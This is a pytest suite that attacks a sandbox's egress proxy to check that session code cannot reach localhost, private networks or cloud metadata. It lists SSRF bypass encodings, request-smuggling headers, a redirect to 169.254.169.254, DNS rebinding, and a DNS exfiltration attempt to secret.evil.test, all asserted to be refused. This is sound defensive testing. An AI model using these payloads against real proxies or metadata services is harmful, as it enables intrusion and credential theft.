"""Code that may reach something, and wants to reach more: the machine itself, its network, a cloud's metadata."""

import asyncio
import socket
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any

import pytest
import pytest_asyncio

from sandbox import Egress, Session
from sandbox.docker import DockerEngine
from tests.attacks.conftest import SPEC
from tests.cells import run
from tests.fakes.web import FakeSite

pytestmark = [pytest.mark.engine, pytest.mark.asyncio(loop_scope="module")]

ASK = """
import os, socket
door = int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
def ask(head, close=True):
    with socket.create_connection(("127.0.0.1", door), timeout=20) as line:
        line.sendall(head if isinstance(head, bytes) else f"CONNECT {head} HTTP/1.1\\r\\nHost: {head}\\r\\n\\r\\n".encode())
        return int((line.recv(4096) or b"- 0").split()[1])
"""
INWARD = (
    *(
        "127.0.0.1:443",
        "127.1:443",
        "2130706433:443",
        "0x7f000001:443",
        "017700000001:443",
        "localhost:443",
        "0:443",
        "0.0.0.0:443",
    ),
    *("[::1]:443", "[::]:443", "[::ffff:127.0.0.1]:443", "[::ffff:7f00:1]:443", "[64:ff9b::7f00:1]:443", "[2002:7f00:1::]:443"),
    *("169.254.169.254:443", "[fd00:ec2::254]:443", "10.0.0.1:443", "172.17.0.1:443", "192.168.0.1:443", "100.64.0.1:443"),
    *("sandbox:443", "10.0.0.1.:443", "[fe80::1]:443"),
)
"""Ways to write the machine, its networks and its metadata."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site() -> AsyncIterator[FakeSite]:
    async with FakeSite() as served:
        yield served


@pytest_asyncio.fixture(loop_scope="module")
async def wide(engine: DockerEngine, neighbour: Session, site: FakeSite) -> AsyncIterator[Session]:
    """A session that may reach every public host, and the site, which is private, because it is named itself."""
    session = await engine.session("wide", replace(SPEC, egress=Egress(("*", f"127.0.0.2:{site.port}"))))
    await run(session, ASK)
    yield session
    assert (await run(session, "6 * 7")).value == "42"
    assert (await run(session, f"ask('127.0.0.2:{site.port}')")).value == "200", "what is allowed still goes"
    assert (await run(neighbour, "mine")).value == "'untouched'"
    await session.close()


async def test_71_private_addresses_in_any_writing_are_refused(wide: Session, site: FakeSite) -> None:
    assert (await run(wide, f"sorted({{ask(host) for host in {INWARD!r}}} - {{502}})")).value == "[403]"
    for target in (
        f"user@127.0.0.2:{site.port}",
        f"127.0.0.2:{site.port}@10.0.0.1:443",
        f"127.0.0.2:{site.port}/../",
        "127.0.0.2:22",
    ):
        assert (await run(wide, f"ask({target!r})")).value == "403", target
    assert site.asked == []


async def test_71_a_part_of_an_allowed_name_is_another_name(engine: DockerEngine, site: FakeSite) -> None:
    session = await engine.session("narrow", replace(SPEC, egress=Egress((f"127.0.0.2:{site.port}", "*.example.org"))))
    await run(session, ASK)
    names = ("127.0.0.2.evil.test", "evil127.0.0.2", "badexample.org", "example.org", "x.example.org.evil.test")
    outcome = await run(
        session, f"{{ask(f'{{host}}:{site.port}') for host in {names!r}}} | {{ask(f'{{host}}:443') for host in {names!r}}}"
    )
    assert outcome.value == "{403}"
    await session.close()


async def test_71_no_request_is_smuggled_past_the_proxy(wide: Session, site: FakeSite) -> None:
    allowed = f"127.0.0.2:{site.port}"
    heads = (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET http://169.254.169.254/latest HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET https://10.0.0.1/ HTTP/1.1\r\nHost: x\r\n\r\n",
        f"GET http://{allowed}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"CONNECT 10.0.0.1:443 HTTP/1.1\r\nHost: " + allowed.encode() + b"\r\n\r\n",
        b"CONNECT " + allowed.encode() + b"\r\nX: y HTTP/1.1\r\n\r\n",
        b"x" * 100_000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    )
    for head in heads:
        status = (await run(wide, f"ask({head!r})")).value
        assert status in ("400", "403"), (head[:60], status)
    assert site.asked == []


async def test_71_a_redirect_inward_is_refused_and_there_is_nothing_to_steal(wide: Session, site: FakeSite) -> None:
    url = f"{site.url}/away?to=https://169.254.169.254/latest/meta-data"
    raised = (await run(wide, f"import requests; requests.get({url!r}, verify=False)")).raised
    assert raised is not None and "403 169.254.169.254 leads to a private address" in raised.message
    seen = await run(wide, "print({n: v for n, v in os.environ.items() if 'proxy' in n.lower()})")
    assert "@" not in seen.stdout and "127.0.0.1" in seen.stdout


async def test_71_a_name_that_changes_its_address_is_looked_up_once_and_judged_by_it(
    engine: DockerEngine, site: FakeSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers: list[list[str]] = []
    looked_up = _name_server(monkeypatch, lambda name: answers.pop(0))
    rules = Egress((f"rebind.test:{site.port}", f"127.0.0.2:{site.port}"))
    session = await engine.session("rebind", replace(SPEC, egress=rules))
    await run(session, ASK)
    for answer, status in (
        ([["127.0.0.2"], ["127.0.0.1"]], "200"),
        ([["127.0.0.1"], ["127.0.0.2"]], "403"),
        ([["127.0.0.1", "10.0.0.1", "127.0.0.2"]], "200"),
    ):
        answers[:], site.reached[:], looked_up[:] = answer, [], []
        code = f"""
import requests
try: status = requests.get("https://rebind.test:{site.port}/", verify=False).status_code
except requests.exceptions.ProxyError as error: status = str(error).split("failed: ")[1][:3]
str(status)
"""
        assert (await run(session, code)).value == f"'{status}'"
        assert looked_up == ["rebind.test"]
        assert site.reached == (["127.0.0.2"] if status == "200" else []), "the judged address, and no other"
    await session.close()


async def test_71_idle_and_endless_connections_cost_their_own_thread_only(wide: Session, neighbour: Session) -> None:
    code = """
lines = []
for _ in range(200):
    line = socket.create_connection(("127.0.0.1", door), timeout=5)
    try: line.sendall(b"CONNECT ")
    except OSError: pass
    lines.append(line)
for line in lines: line.close()
len(lines)
"""
    assert (await run(wide, code)).value == "200"
    assert (await run(neighbour, "mine")).value == "'untouched'"


async def test_72_names_are_looked_up_by_the_proxy_alone_and_only_those_that_are_allowed(
    engine: DockerEngine, neighbour: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_up = _name_server(monkeypatch, lambda name: [])
    session = await engine.session("quiet", replace(SPEC, egress=Egress(("*.example.org",))))
    code = """
out = []
for host in ("8.8.8.8", "169.254.169.254", "10.255.255.53"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try: line.sendto(b"secret", (host, 53)); out.append(host)
        except OSError: pass
try: out.append(socket.getaddrinfo("secret.evil.test", 443))
except socket.gaierror: pass
print(out, ask("secret.evil.test:443"), ask("secret.example.org:443"))
"""
    await run(session, ASK)
    assert (await run(session, code)).stdout == "[] 403 502\n"
    assert looked_up == ["secret.example.org"], "a refused name goes nowhere"
    assert (await run(neighbour, "mine")).value == "'untouched'"
    await session.close()


def _name_server(monkeypatch: pytest.MonkeyPatch, answer: Any) -> list[str]:
    """Answers for names under `.test` and `.org` in the internet's stead; the names that were asked for."""
    loop, asked = asyncio.get_running_loop(), list[str]()
    real = loop.getaddrinfo

    async def getaddrinfo(host: Any, port: Any, **options: Any) -> Any:
        if not str(host).endswith((".test", ".org")):
            return await real(host, port, **options)
        asked.append(str(host))
        if not (addresses := answer(host)):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port)) for address in addresses]

    monkeypatch.setattr(loop, "getaddrinfo", getaddrinfo)
    return asked
